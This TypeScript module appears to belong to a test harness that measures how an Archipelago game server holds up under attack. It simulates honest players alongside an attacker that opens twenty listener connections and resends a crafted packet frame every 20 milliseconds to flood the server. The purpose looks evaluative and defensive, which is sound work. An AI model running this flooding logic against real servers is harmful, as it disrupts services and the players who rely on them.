// Honest players request data; attackers repeat a frame of packets.
import { once } from 'node:events'
import { WebSocket } from 'ws'
import type { ArchipelagoPacket } from '../cost/players/archipelago.ts'
import { archipelagoFrame } from './archipelago-attack-messages.ts'
import { bounceTargetTags } from './attack-messages.ts'
import { type AttackedRoom, honestPlayerCount } from './attacks.ts'
import { type ConnectPlayer, repeatEvery, type StartAttack } from './contest.ts'

const listeners = 20
/** Maximum bytes in an attacker's send buffer, so that the attacker's process is not overloaded. */
const maxUnansweredBytes = 4 * 1024 * 1024
const attackEveryMs = 20

/** Index of the first slot of the attackers and listeners. The honest players have the slots before this index. */
const others = honestPlayerCount

interface Joined {
  readonly socket: WebSocket
  readonly missing: readonly number[]
}

async function joined({ port, slots }: AttackedRoom, slot: number, tags: readonly string[]): Promise<Joined> {
  const { name, game } = slots[slot]!
  const socket = new WebSocket(`ws://127.0.0.1:${port}/`, { perMessageDeflate: false, maxPayload: 1 << 28 })
  const answer = new Promise<readonly number[]>((resolve, reject) => {
    socket.on('message', (data: Buffer) => {
      if (data.includes('"cmd":"Connected"')) resolve(missingIn(data))
      if (data.includes('"cmd":"ConnectionRefused"')) reject(new Error(data.toString()))
    })
    socket.once('close', (code) => reject(new Error(`closed: ${code}`)))
  })
  await once(socket, 'open')
  const version = { major: 0, minor: 6, build: 7, class: 'Version' }
  const who = { cmd: 'Connect', password: null, name, game, uuid: name, version }
  socket.send(JSON.stringify([{ ...who, items_handling: 7, tags: ['AP', ...tags], slot_data: false }]))
  return { socket, missing: await answer }
}

function missingIn(frame: Buffer): readonly number[] {
  const packets = JSON.parse(frame.toString()) as readonly ArchipelagoPacket[]
  return packets.flatMap(({ missing_locations }) => missing_locations ?? [])
}

export const connectArchipelagoPlayer: ConnectPlayer = async (target, nth) => {
  const { socket } = await joined(target, nth, ['NoText'])
  return {
    everyMs: 30,
    ask: () =>
      new Promise((resolve, reject) => {
        const lost = () => reject(new Error('an honest player was disconnected'))
        const received = (data: Buffer) => {
          if (!data.includes('"cmd":"Retrieved"')) return
          socket.off('message', received)
          socket.off('close', lost)
          resolve()
        }
        socket.on('message', received)
        socket.once('close', lost)
        socket.send('[{"cmd":"Get","keys":["nothing"]}]')
      }),
  }
}

export const startArchipelagoAttack: StartAttack = async (target, variant) => {
  const hearing: WebSocket[] = []
  for (let i = 0; i < listeners; i++)
    hearing.push((await joined(target, others + 1 + i, bounceTargetTags)).socket)
  const { socket, missing } = await joined(target, others, [])
  const frame = archipelagoFrame(variant, missing)
  const stop = repeatEvery(attackEveryMs, () => {
    if (socket.readyState === socket.OPEN && socket.bufferedAmount < maxUnansweredBytes) socket.send(frame)
  })
  return () => {
    stop()
    for (const each of [socket, ...hearing]) each.terminate()
  }
}
